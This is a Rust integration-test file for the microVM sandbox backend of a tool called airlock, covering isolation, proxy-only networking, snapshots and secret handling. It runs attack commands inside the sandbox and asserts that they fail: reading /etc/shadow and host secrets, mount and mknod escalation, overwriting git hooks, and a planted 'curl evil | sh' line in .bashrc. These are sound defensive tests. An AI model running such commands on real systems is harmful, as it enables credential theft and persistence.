//! The microVM backend for real: QEMU's `microvm` machine under TCG on this machine (KVM does
//! not boot a standard guest here), Debian's kernel, airlock's initramfs. Every test performs
//! what it claims and checks the host afterwards. Needs `scripts/microvm-guest.sh` to have run
//! (`scripts/test.sh` runs it); without it every test fails, saying so.
#![allow(clippy::unwrap_used)]

mod common;

use airlock_microvm::MicrovmBackend;
use airlock_policy::{
    resolve, BackendKind, FilesystemSection, LimitsSection, NetworkMode, NetworkSection,
    PolicyFile, ResolveContext, SizeValue,
};
use airlock_runtime::backend::{
    Backend, CheckpointKind, CheckpointOptions, ImageTemplate, NetDecision, NetworkEvent,
    NetworkSink, StartOptions, Template, TemplateDefaults,
};
use airlock_runtime::{LiveSandbox, RealHost};
use common::{airlock_bin, children, TempDir};
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

fn backend() -> MicrovmBackend {
    MicrovmBackend::beside(&airlock_bin())
}

fn policy(ws: &Path, edit: impl FnOnce(&mut PolicyFile)) -> airlock_policy::ResolvedPolicy {
    let env = BTreeMap::new();
    let mut file = PolicyFile {
        workspace: Some(ws.to_string_lossy().into_owned()),
        backend: Some(BackendKind::Microvm),
        ..Default::default()
    };
    edit(&mut file);
    resolve(
        &file,
        &ResolveContext {
            cwd: ws.to_path_buf(),
            env: &env,
            host: &RealHost,
        },
    )
    .unwrap()
}

fn start(p: &airlock_policy::ResolvedPolicy, t: &Template, opts: &StartOptions) -> LiveSandbox {
    LiveSandbox::start(&backend(), p, t, opts).unwrap()
}

/// (stdout, stderr, exit code) of `sh -c script` in the box.
fn sh(s: &mut LiveSandbox, script: &str) -> (String, String, Option<i32>) {
    let out = s
        .channel()
        .exec(&["sh", "-c", script], &[], None, None, 1 << 20)
        .unwrap();
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        out.exit_code,
    )
}

/// QEMU processes whose parent is `parent`.
fn qemus_of(parent: i32) -> Vec<i32> {
    children(parent)
        .into_iter()
        .filter(|p| {
            std::fs::read_to_string(format!("/proc/{p}/comm"))
                .is_ok_and(|c| c.starts_with("qemu-system"))
        })
        .collect()
}

/// The QEMUs below this test process that share `dir` (their command line names it): the VM
/// of the box whose workspace it is, not those other tests run at the same time.
fn qemus_sharing(dir: &Path) -> Vec<i32> {
    let dir = dir.to_string_lossy().into_owned();
    qemus_of(std::process::id() as i32)
        .into_iter()
        .filter(|p| {
            std::fs::read(format!("/proc/{p}/cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(&dir))
        })
        .collect()
}

fn wait_gone(pids: &[i32], within: Duration) -> bool {
    let deadline = Instant::now() + within;
    while Instant::now() < deadline {
        if pids.iter().all(|p| !common::alive(*p)) {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

/// The guest kernel's release, from the extracted package's file name.
fn guest_release() -> String {
    let boot = airlock_bin()
        .parent()
        .and_then(Path::parent)
        .unwrap()
        .join("microvm/kernel/boot");
    let name = std::fs::read_dir(&boot)
        .unwrap_or_else(|e| panic!("{}: {e}: run scripts/microvm-guest.sh", boot.display()))
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .find(|n| n.starts_with("vmlinuz-"))
        .expect("a guest kernel: run scripts/microvm-guest.sh");
    name.trim_start_matches("vmlinuz-").to_string()
}

/// A small root filesystem for an image template: the host's dash and a few tools with the
/// libraries they load, copied (not linked) under `root`. Its digest covers every file.
fn build_image(dir: &TempDir) -> ImageTemplate {
    use sha2::Digest;
    let root = dir.join("rootfs");
    let mut hash = sha2::Sha256::new();
    let mut files: Vec<PathBuf> = Vec::new();
    for tool in [
        "sh", "cat", "ls", "sleep", "mkdir", "dd", "id", "rm", "uname",
    ] {
        let out = std::process::Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .output()
            .unwrap();
        let path = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
        let real = std::fs::canonicalize(&path).unwrap();
        let dest = root.join("bin").join(tool);
        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
        std::fs::copy(&real, &dest).unwrap();
        files.push(dest);
        let ldd = std::process::Command::new("ldd")
            .arg(&real)
            .output()
            .unwrap();
        for line in String::from_utf8_lossy(&ldd.stdout).lines() {
            let lib = line
                .split_whitespace()
                .find(|w| w.starts_with('/'))
                .map(PathBuf::from);
            let Some(lib) = lib else { continue };
            let dest = root.join(lib.strip_prefix("/").unwrap());
            if !dest.exists() {
                std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
                std::fs::copy(std::fs::canonicalize(&lib).unwrap(), &dest).unwrap();
                files.push(dest);
            }
        }
    }
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(root.join("etc/motd"), b"from the image\n").unwrap();
    files.push(root.join("etc/motd"));
    files.sort();
    for f in &files {
        hash.update(f.strip_prefix(&root).unwrap().to_string_lossy().as_bytes());
        hash.update(std::fs::read(f).unwrap());
    }
    let digest: String = hash.finalize().iter().map(|b| format!("{b:02x}")).collect();
    ImageTemplate {
        name: "mvm-test".into(),
        digest: format!("sha256:{digest}"),
        rootfs: root,
        defaults: TemplateDefaults {
            cwd: Some("/".into()),
            ..Default::default()
        },
    }
}

/// Every file under `dir` with its content.
fn tree(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if e.file_type().unwrap().is_dir() {
                stack.push(p);
            } else {
                out.insert(p.clone(), std::fs::read(&p).unwrap());
            }
        }
    }
    out
}

#[test]
fn a_host_template_box_runs_on_its_own_kernel_and_sees_only_what_it_was_given() {
    let ws = TempDir::new("mvm-host");
    std::fs::write(ws.join("in.txt"), b"given\n").unwrap();
    let outside = TempDir::new("mvm-outside");
    std::fs::write(outside.join("secret.txt"), b"host secret\n").unwrap();
    let secret = outside.join("secret.txt");
    let mut s = start(
        &policy(ws.path(), |_| {}),
        &Template::Host,
        &StartOptions::default(),
    );
    let receipt = s.receipt().unwrap().clone();
    assert!(receipt
        .layers
        .iter()
        .any(|l| l.layer == "isolation" && l.mechanism.contains("microVM")));
    // Its own kernel: the guest's release, not the host's.
    let (out, _, code) = sh(&mut s, "uname -r");
    assert_eq!((out.trim(), code), (guest_release().as_str(), Some(0)));
    // The workspace is shared both ways.
    let (out, _, _) = sh(&mut s, "cat in.txt && echo made > out.txt");
    assert_eq!(out, "given\n");
    assert_eq!(std::fs::read(ws.join("out.txt")).unwrap(), b"made\n");
    // Attacks on the host's files: nothing outside what was given is there to read.
    let script = format!(
        "cat {} ; ls /root /home/*/ ; cat /etc/shadow ; ls {}",
        secret.display(),
        outside.path().display()
    );
    let (out, _, _) = sh(&mut s, &script);
    assert!(!out.contains("host secret"), "{out}");
    // The host's /etc is not the box's: only the selected entries and synthesized identity.
    let (out, _, _) = sh(&mut s, "ls /etc; cat /etc/passwd");
    assert!(!out.contains("shadow") && !out.contains("sudoers"), "{out}");
    assert!(out.contains("user:x:"), "{out}");
    // The guest's devices (the agent's port, the 9p transports) are not in the box's /dev,
    // and nothing in the box can mount, load modules or make device nodes.
    let (out, _, _) = sh(&mut s, "ls /dev");
    let mut devs: Vec<&str> = out.split_whitespace().collect();
    devs.sort_unstable();
    assert_eq!(
        devs,
        [
            "fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout",
            "tty", "urandom", "zero"
        ]
    );
    let (_, _, code) = sh(
        &mut s,
        "mount -t proc proc /tmp || mount -o remount,rw /usr || mknod /tmp/vda b 254 0",
    );
    assert_ne!(code, Some(0), "a mount or mknod succeeded in the box");
    let (out, _, _) = sh(&mut s, "grep Cap /proc/self/status");
    for line in out.lines().filter(|l| !l.starts_with("CapAmb")) {
        assert!(line.ends_with("0000000000000000"), "{out}");
    }
    // The system directories are read-only (QEMU's 9p export refuses writes).
    let (_, _, code) = sh(&mut s, "touch /usr/airlock-mvm-pwned");
    assert_ne!(code, Some(0));
    assert!(!Path::new("/usr/airlock-mvm-pwned").exists());
    assert_eq!(std::fs::read(&secret).unwrap(), b"host secret\n");
    s.kill();
}

#[test]
fn read_only_grants_and_protected_paths_hold_against_writes_from_the_box() {
    let ws = TempDir::new("mvm-grants");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join(".git/hooks/pre-commit"), b"#!/bin/sh\ntrue\n").unwrap();
    let data = TempDir::new("mvm-data");
    std::fs::write(data.join("victim.txt"), b"original\n").unwrap();
    let before = tree(data.path());
    let p = policy(ws.path(), |f| {
        f.filesystem = FilesystemSection {
            read: vec![data.path().to_string_lossy().into_owned()],
            ..Default::default()
        };
    });
    let mut s = start(&p, &Template::Host, &StartOptions::default());
    let victim = data.join("victim.txt");
    let (out, _, _) = sh(&mut s, &format!("cat {}", victim.display()));
    assert_eq!(out, "original\n", "the grant is readable");
    for attack in [
        format!("echo pwned > {}", victim.display()),
        format!("rm -f {}", victim.display()),
        format!("touch {}/new", data.path().display()),
        format!("mv {} {}/moved", victim.display(), data.path().display()),
        format!("mount -o remount,rw {}", data.path().display()),
        "echo pwned > .git/hooks/pre-commit".to_string(),
        "rm -f .git/hooks/pre-commit".to_string(),
        "mount -o remount,rw .git/hooks".to_string(),
        // Missing protected paths cannot be created either (host placeholders, read-only).
        "echo 'curl evil | sh' > .bashrc".to_string(),
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json".to_string(),
        "echo x > .git/config".to_string(),
    ] {
        let (_, err, code) = sh(&mut s, &attack);
        assert_ne!(code, Some(0), "{attack} succeeded: {err}");
    }
    // The writable workspace itself still takes writes.
    let (_, _, code) = sh(&mut s, "echo fine > ok.txt");
    assert_eq!(code, Some(0));
    s.kill();
    assert_eq!(
        tree(data.path()),
        before,
        "the read-only grant changed on the host"
    );
    assert_eq!(
        std::fs::read(ws.join(".git/hooks/pre-commit")).unwrap(),
        b"#!/bin/sh\ntrue\n"
    );
    assert_eq!(std::fs::read(ws.join("ok.txt")).unwrap(), b"fine\n");
    // The placeholders went with the box.
    for gone in [".bashrc", ".vscode", ".git/config", ".envrc"] {
        assert!(!ws.join(gone).exists(), "{gone} was left in the workspace");
    }
}

/// Collects a box's network decisions.
#[derive(Default)]
struct Events(Mutex<Vec<NetworkEvent>>);

impl NetworkSink for Events {
    fn network_event(&self, event: NetworkEvent) {
        self.0.lock().unwrap().push(event);
    }
}

/// A one-request-per-connection HTTP origin on the host's loopback, owned by the test.
fn origin(body: &'static str) -> (u16, Arc<Mutex<usize>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(Mutex::new(0usize));
    let count = Arc::clone(&hits);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            *count.lock().unwrap() += 1;
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let reply = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(reply.as_bytes());
        }
    });
    (port, hits)
}

#[test]
fn the_proxy_door_is_the_only_way_out_and_decides_every_request() {
    let ws = TempDir::new("mvm-net");
    let (port, hits) = origin("hello from the origin");
    let events = Arc::new(Events::default());
    let opts = StartOptions {
        network_events: Some(events.clone()),
        audit_file: None,
        ..Default::default()
    };
    let p = policy(ws.path(), |f| {
        f.network = NetworkSection {
            mode: Some(NetworkMode::Proxy),
            allow_domain: vec!["svc.test".into()],
            map_host: vec!["svc.test=127.0.0.1".into(), "other.test=127.0.0.1".into()],
            allow_ip: vec!["127.0.0.1".into()],
            ..Default::default()
        };
    });
    let mut s = start(&p, &Template::Host, &opts);
    // Allowed: through the door and the host's proxy to the origin.
    let (out, err, code) = sh(
        &mut s,
        &format!("curl -sS --max-time 60 http://svc.test:{port}/"),
    );
    assert_eq!(
        (out.as_str(), code),
        ("hello from the origin", Some(0)),
        "{err}"
    );
    assert_eq!(*hits.lock().unwrap(), 1);
    // Denied: a name the allowlist does not hold never reaches the origin.
    let (out, _, _) = sh(
        &mut s,
        &format!(
            "curl -s --max-time 60 -o /dev/null -w '%{{http_code}}' http://other.test:{port}/"
        ),
    );
    assert_eq!(out, "403");
    // No way around the door: no interface but loopback, and a direct connection to the
    // origin's address fails.
    let (out, _, _) = sh(&mut s, "tail -n +3 /proc/net/dev | cut -d: -f1");
    assert_eq!(out.split_whitespace().collect::<Vec<_>>(), ["lo"]);
    let (_, _, code) = sh(
        &mut s,
        &format!("curl -s --noproxy '*' --max-time 10 http://127.0.0.1:{port}/"),
    );
    assert_ne!(code, Some(0));
    assert_eq!(*hits.lock().unwrap(), 1, "only the allowed request arrived");
    s.flush_network_events().unwrap();
    let seen = events.0.lock().unwrap().clone();
    assert!(
        seen.iter()
            .any(|e| e.host == "svc.test" && e.decision == NetDecision::Allow),
        "{seen:?}"
    );
    assert!(
        seen.iter()
            .any(|e| e.host == "other.test" && e.decision == NetDecision::Deny),
        "{seen:?}"
    );
    s.kill();
}

#[test]
fn an_image_template_is_a_read_only_disk_under_a_capped_writable_layer() {
    let dir = TempDir::new("mvm-image");
    let image = build_image(&dir);
    let before = tree(&image.rootfs);
    let ws = TempDir::new("mvm-image-ws");
    let p = policy(ws.path(), |f| {
        f.workspace = Some("none".into());
        f.limits = LimitsSection {
            disk: Some(SizeValue(8 << 20)),
            ..Default::default()
        };
    });
    let t = Template::Image(image.clone());
    let mut s = start(&p, &t, &StartOptions::default());
    let (out, _, _) = sh(&mut s, "cat /etc/motd; ls /bin");
    assert!(out.starts_with("from the image\n"), "{out}");
    // Writes land in the box's own layer, never in the template.
    let (_, err, code) = sh(
        &mut s,
        "echo changed > /etc/motd && rm /bin/cat && mkdir -p /opt/new && cat /etc/motd",
    );
    assert_eq!(
        code,
        Some(127),
        "cat was removed from the box's view: {err}"
    );
    let (out, _, _) = sh(&mut s, "ls /bin/cat; sh -c 'read l < /etc/motd; echo $l'");
    assert_eq!(out.trim(), "changed");
    // The writable layer is capped: writing past --disk fails inside the box.
    let (_, _, code) = sh(&mut s, "dd if=/dev/zero of=/big bs=1M count=32");
    assert_ne!(code, Some(0), "32 MiB fit in an 8 MiB layer");
    s.kill();
    assert_eq!(tree(&image.rootfs), before, "the template's root changed");
}

#[test]
fn a_snapshot_restores_a_box_with_its_processes_and_files_intact() {
    let dir = TempDir::new("mvm-snap");
    let image = build_image(&dir);
    let ws = TempDir::new("mvm-snap-ws");
    let p = policy(ws.path(), |f| f.workspace = Some("none".into()));
    let t = Template::Image(image);
    let b = backend();
    let instance = b.start(&p, &t, &StartOptions::default()).unwrap();
    assert_eq!(
        instance.capabilities().checkpoint,
        Some(CheckpointKind::Memory)
    );
    assert!(instance.capabilities().pause);
    let mut s = LiveSandbox::connect(instance).unwrap();
    let (pid, _, _) = sh(
        &mut s,
        "echo state-before > /tmp/state; sleep 1000 >/dev/null 2>&1 & echo $!",
    );
    let pid = pid.trim().to_string();
    let checkpoint = TempDir::new("mvm-snap-ckpt");
    let taken = s
        .checkpoint(checkpoint.path(), &CheckpointOptions::default())
        .unwrap();
    assert_eq!(taken.kind, CheckpointKind::Memory);
    // The box runs on after its snapshot, and what it does next is not in the snapshot.
    let (_, _, code) = sh(&mut s, "echo state-after > /tmp/state");
    assert_eq!(code, Some(0));
    s.kill();
    let restored = b
        .restore(checkpoint.path(), &p, &t, &StartOptions::default())
        .unwrap();
    let mut r = LiveSandbox::connect(restored).unwrap();
    let (out, _, code) = sh(
        &mut r,
        &format!("cat /tmp/state; kill -0 {pid} && echo alive"),
    );
    assert_eq!((out.as_str(), code), ("state-before\nalive\n", Some(0)));
    r.kill();
}

#[test]
fn a_box_with_a_workspace_checkpoints_and_two_restores_of_it_diverge() {
    let ws = TempDir::new("mvm-ckpt-ws");
    std::fs::write(ws.join("kept"), "host file\n").unwrap();
    let p = policy(ws.path(), |_| {});
    let b = backend();
    let instance = b
        .start(&p, &Template::Host, &StartOptions::default())
        .unwrap();
    assert_eq!(
        instance.capabilities().checkpoint,
        Some(CheckpointKind::Memory)
    );
    let mut s = LiveSandbox::connect(instance).unwrap();
    let ws_in = ws.path().display().to_string();
    let (_, _, code) = sh(
        &mut s,
        "echo before > /tmp/state; echo layer > /home/user/mine",
    );
    assert_eq!(code, Some(0));
    // A process sitting in the workspace holds the share: the checkpoint is refused, saying
    // why, and the box runs on with its workspace mounted.
    let (pid, _, _) = sh(
        &mut s,
        &format!("cd {ws_in} && (sleep 1000 >/dev/null 2>&1 & echo $!)"),
    );
    let busy = TempDir::new("mvm-ckpt-busy");
    let err = s
        .checkpoint(busy.path(), &CheckpointOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("working directory"), "{err}");
    let (out, _, _) = sh(&mut s, &format!("cat {ws_in}/kept; kill {}", pid.trim()));
    assert_eq!(
        out, "host file\n",
        "the workspace is attached again after a refusal"
    );
    // Idle, it checkpoints, and the box runs on with the workspace attached again.
    let checkpoint = TempDir::new("mvm-ckpt");
    let t0 = Instant::now();
    s.checkpoint(checkpoint.path(), &CheckpointOptions::default())
        .unwrap();
    eprintln!("checkpoint of an idle box with shares: {:?}", t0.elapsed());
    let (out, _, code) = sh(
        &mut s,
        &format!("echo after > /tmp/state; echo written-after > {ws_in}/after; cat {ws_in}/kept"),
    );
    assert_eq!((out.as_str(), code), ("host file\n", Some(0)));
    assert_eq!(
        std::fs::read_to_string(ws.join("after")).unwrap(),
        "written-after\n"
    );
    // then_stop: the VM is saved and freed.
    let before: Vec<i32> = qemus_sharing(ws.path());
    assert_eq!(before.len(), 1, "the box's own VM: {before:?}");
    let last = TempDir::new("mvm-ckpt-stop");
    s.checkpoint(last.path(), &CheckpointOptions { then_stop: true })
        .unwrap();
    assert!(
        wait_gone(&before, Duration::from_secs(10)),
        "then_stop left its QEMU running"
    );
    s.kill();
    // Two restores of one checkpoint (a fork): each has its own copy of the VM's memory, so of
    // /tmp, home and the root's writable layer; both see the host's workspace as it is now.
    let mut forks: Vec<LiveSandbox> = (0..2)
        .map(|_| {
            LiveSandbox::connect(
                b.restore(
                    checkpoint.path(),
                    &p,
                    &Template::Host,
                    &StartOptions::default(),
                )
                .unwrap(),
            )
            .unwrap()
        })
        .collect();
    for (i, f) in forks.iter_mut().enumerate() {
        let (_, _, code) = sh(f, &format!("echo fork-{i} > /tmp/state"));
        assert_eq!(code, Some(0));
    }
    for (i, f) in forks.iter_mut().enumerate() {
        let (out, _, code) = sh(
            f,
            &format!("cat /tmp/state /home/user/mine {ws_in}/kept {ws_in}/after"),
        );
        assert_eq!(
            (out.as_str(), code),
            (
                format!("fork-{i}\nlayer\nhost file\nwritten-after\n").as_str(),
                Some(0)
            ),
            "fork {i} sees another's memory or lost its workspace"
        );
    }
    // A restored box's protected paths hold as a started box's do (its placeholders are made
    // again before QEMU starts, so QEMU's jail and the guest both hold them).
    let (out, _, _) = sh(
        &mut forks[0],
        &format!(
            "mkdir -p {ws_in}/.git/hooks; echo x > {ws_in}/.git/hooks/pre-commit && echo MADE-HOOK; echo x >> {ws_in}/.bashrc && echo WROTE-RC; true"
        ),
    );
    assert!(
        !out.contains("MADE-HOOK") && !out.contains("WROTE-RC"),
        "{out}"
    );
    for f in forks {
        f.kill();
    }
    assert!(
        !ws.join(".git/hooks/pre-commit").exists(),
        "the restored box wrote a hook on the host"
    );
    assert!(
        !ws.join(".bashrc").exists(),
        "the restored box left a .bashrc on the host"
    );
}

#[test]
fn a_box_after_the_first_starts_from_the_template_snapshot_not_a_boot() {
    let ws = TempDir::new("mvm-warm");
    let p = policy(ws.path(), |_| {});
    // The first box of this layout may boot (and then saves the snapshot).
    let first = start(&p, &Template::Host, &StartOptions::default());
    first.kill();
    let t0 = Instant::now();
    let mut s = start(&p, &Template::Host, &StartOptions::default());
    let (out, _, _) = sh(&mut s, "echo first-output");
    let took = t0.elapsed();
    assert_eq!(out, "first-output\n");
    let start_layer = s
        .receipt()
        .unwrap()
        .layers
        .iter()
        .find(|l| l.layer == "start")
        .unwrap()
        .mechanism
        .clone();
    assert!(
        start_layer.contains("restored from the template snapshot"),
        "{start_layer}"
    );
    eprintln!("warm start to first output: {took:?} ({start_layer})");
    s.kill();
}

/// Asserts that the box's clock is within 1.5 s of the host's, `after` what.
fn assert_on_time(s: &mut LiveSandbox, after: &str) {
    let skew = clock_skew(s);
    assert!(skew.abs() < 1.5, "{after}: {skew:.3} s off");
}

/// How far the box's clock is from the host's, in seconds.
fn clock_skew(s: &mut LiveSandbox) -> f64 {
    common::clock_skew(|| {
        let (out, err, code) = sh(s, "date +%s.%N");
        assert_eq!(code, Some(0), "{err}");
        out
    })
}

#[test]
fn a_box_has_the_hosts_time_after_a_snapshot_restore_a_pause_and_a_checkpoint() {
    // A VM restored from a snapshot, or resumed after a pause, used to keep the time it was
    // saved or stopped at: TLS clients in it called new certificates "not yet valid".
    const GAP: Duration = Duration::from_secs(3);
    let ws = TempDir::new("mvm-clock");
    let p = policy(ws.path(), |f| f.workspace = Some("none".into()));
    let b = backend();
    // The first box of this layout may boot and save the template snapshot; the next one is
    // restored from it, at least GAP later.
    b.start(&p, &Template::Host, &StartOptions::default())
        .unwrap()
        .kill();
    std::thread::sleep(GAP);
    let mut s = LiveSandbox::connect(
        b.start(&p, &Template::Host, &StartOptions::default())
            .unwrap(),
    )
    .unwrap();
    assert_on_time(&mut s, "restored from the template snapshot");

    s.pause().unwrap();
    std::thread::sleep(GAP);
    s.resume().unwrap();
    assert_on_time(&mut s, &format!("resumed after {GAP:?}"));

    let checkpoint = TempDir::new("mvm-clock-ckpt");
    s.checkpoint(checkpoint.path(), &CheckpointOptions::default())
        .unwrap();
    s.kill();
    std::thread::sleep(GAP);
    let mut r = LiveSandbox::connect(
        b.restore(
            checkpoint.path(),
            &p,
            &Template::Host,
            &StartOptions::default(),
        )
        .unwrap(),
    )
    .unwrap();
    assert_on_time(&mut r, &format!("restored from a checkpoint {GAP:?} old"));
    r.kill();
}

#[test]
fn killing_airlock_kills_its_vms_and_leaves_nothing_behind() {
    let data = TempDir::new("mvm-serve");
    let serve = common::ServeProcess::start(data.path(), &["--backend", "microvm"]);
    let key = serve.printed_key.clone().unwrap();
    let url = |p: &str| format!("{}{}", serve.base, p);
    let resp = ureq::post(&url("/v1/sandboxes"))
        .set("Authorization", &format!("Bearer {key}"))
        .send_string(r#"{"backend": "microvm"}"#)
        .unwrap();
    let v: serde_json::Value = serde_json::from_str(&resp.into_string().unwrap()).unwrap();
    let id = v["id"].as_str().unwrap().to_string();
    // The server's API reaches the VM: a command and a file.
    let resp = ureq::post(&url(&format!("/v1/sandboxes/{id}/exec")))
        .set("Authorization", &format!("Bearer {key}"))
        .send_string(r#"{"cmd": ["sh", "-c", "uname -r; echo vm > /tmp/f"]}"#)
        .unwrap();
    let text = resp.into_string().unwrap();
    assert!(text.contains(&guest_release()), "{text}");
    let resp = ureq::get(&url(&format!("/v1/sandboxes/{id}/files?path=/tmp/f")))
        .set("Authorization", &format!("Bearer {key}"))
        .call()
        .unwrap();
    assert_eq!(resp.into_string().unwrap(), "vm\n");
    let qemu = qemus_of(serve.pid());
    assert_eq!(qemu.len(), 1, "the server's VM: {qemu:?}");
    // What QEMU exports: /usr read-only and a staged /etc, never the host's own /etc.
    let cmdline = std::fs::read(format!("/proc/{}/cmdline", qemu[0])).unwrap();
    let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
    assert!(
        cmdline.contains("path=/usr,security_model=none,readonly=on"),
        "{cmdline}"
    );
    assert!(
        !cmdline.contains("path=/etc,") && !cmdline.contains("path=/,"),
        "{cmdline}"
    );
    assert!(
        !cmdline.contains("-netdev") && !cmdline.contains("-nic"),
        "{cmdline}"
    );
    // SAFETY: SIGKILL to the server this test started.
    unsafe { libc::kill(serve.pid(), libc::SIGKILL) };
    assert!(
        wait_gone(&qemu, Duration::from_secs(5)),
        "QEMU outlived a SIGKILLed airlock"
    );
    drop(serve);
    // Nothing half-written is left in the guest cache (no box keeps files on the host).
    let cache = airlock_bin()
        .parent()
        .and_then(Path::parent)
        .unwrap()
        .join("microvm/cache");
    let strays: Vec<_> = std::fs::read_dir(&cache)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
        .collect();
    assert!(strays.is_empty(), "{strays:?}");
}

#[test]
fn an_unprivileged_user_runs_a_microvm_box_whose_files_are_its_own_and_no_root() {
    let (uid, gid, home) = common::ensure_test_user();
    let (_bin_dir, bin) = common::binary_for_test_user("mvm-rootless-bin");
    let ws = TempDir::new("mvm-rootless");
    std::os::unix::fs::chown(ws.path(), Some(uid), Some(gid)).unwrap();
    let guest = airlock_bin()
        .parent()
        .and_then(Path::parent)
        .unwrap()
        .join("microvm");
    let out = std::process::Command::new("setpriv")
        .args(["--reuid", common::TEST_USER, "--regid", common::TEST_USER, "--init-groups", "--"])
        .arg(&bin)
        .args(["run", "--backend", "microvm", "--", "sh", "-c"])
        .arg("id -u; uname -r; echo mine > f; grep -c . /proc/self/status >/dev/null && grep CapEff /proc/self/status")
        .current_dir(ws.path())
        .env("HOME", &home)
        .env("AIRLOCK_MICROVM_DIR", &guest)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    // The box user is uid 1000 inside whoever starts it; its files are the caller's on the host
    // (QEMU's user namespace maps its 1000 to the caller alone).
    assert_eq!(lines[0], "1000", "{stdout}");
    assert_eq!(lines[1], guest_release(), "{stdout}");
    assert_eq!(lines[2], "CapEff:\t0000000000000000", "{stdout}");
    // The box's file is the caller's, as the caller wrote it.
    use std::os::unix::fs::MetadataExt;
    let meta = std::fs::metadata(ws.join("f")).unwrap();
    assert_eq!(
        (meta.uid(), std::fs::read(ws.join("f")).unwrap()),
        (uid, b"mine\n".to_vec())
    );
    // The VM ran as the user: QEMU's cache went to the user's home, not the build's.
    assert!(Path::new(&home).join(".cache/airlock/microvm").is_dir());
}

#[test]
fn a_box_holding_secrets_trusts_its_proxys_ca_and_is_never_checkpointed() {
    use airlock_policy::{SecretEntry, SecretSource, SecretValue};
    let ws = TempDir::new("mvm-secrets-ws");
    let p = policy(ws.path(), |f| {
        f.network = NetworkSection {
            mode: Some(NetworkMode::Proxy),
            ..Default::default()
        };
        f.secrets.insert(
            "API_KEY".into(),
            SecretEntry {
                hosts: vec!["api.example.test".into()],
                from: SecretSource::Value(SecretValue::new(b"sk-never-in-the-box".to_vec())),
                body: false,
            },
        );
    });
    let instance = backend()
        .start(&p, &Template::Host, &StartOptions::default())
        .unwrap();
    assert!(
        instance
            .receipt()
            .layers
            .iter()
            .any(|l| l.layer == "secrets"),
        "the receipt names the secrets layer"
    );
    // Its memory would keep the placeholder and trust a CA that no restored proxy has.
    assert_eq!(instance.capabilities().checkpoint, None);
    assert!(instance.capabilities().pause, "it still pauses in place");
    let mut s = LiveSandbox::connect(instance).unwrap();
    let placeholder = &p.secrets[0].placeholder;
    let (out, _, code) = sh(
        &mut s,
        "echo $API_KEY; echo $SSL_CERT_FILE; grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt; \
         echo tampered >> /etc/ssl/certs/ca-certificates.crt || echo refused",
    );
    assert_eq!(code, Some(0));
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[0],
        placeholder.as_str(),
        "the box holds the placeholder"
    );
    assert_eq!(lines[1], "/etc/ssl/certs/ca-certificates.crt");
    let host_bundle = std::fs::read_to_string("/etc/ssl/certs/ca-certificates.crt").unwrap();
    let host_count = host_bundle.matches("BEGIN CERTIFICATE").count();
    assert_eq!(
        lines[2],
        (host_count + 1).to_string(),
        "the host's bundle plus the box's CA"
    );
    assert_eq!(
        lines[3], "refused",
        "the box cannot change its trust bundle"
    );
    assert!(!out.contains("sk-never-in-the-box"));
    let dir = TempDir::new("mvm-secrets-ckpt");
    let err = s
        .checkpoint(dir.path(), &CheckpointOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("secrets"), "{err}");
    assert!(
        std::fs::read_dir(dir.path()).unwrap().next().is_none(),
        "the refused checkpoint wrote nothing"
    );
    let refused = backend()
        .restore(dir.path(), &p, &Template::Host, &StartOptions::default())
        .err()
        .expect("a restore of a box with secrets is refused")
        .to_string();
    assert!(refused.contains("secrets"), "{refused}");
    s.pause().unwrap();
    s.resume().unwrap();
    let (out, _, _) = sh(&mut s, "echo $API_KEY");
    assert_eq!(
        out.trim(),
        placeholder.as_str(),
        "it runs on after a pause in place"
    );
    s.kill();
}
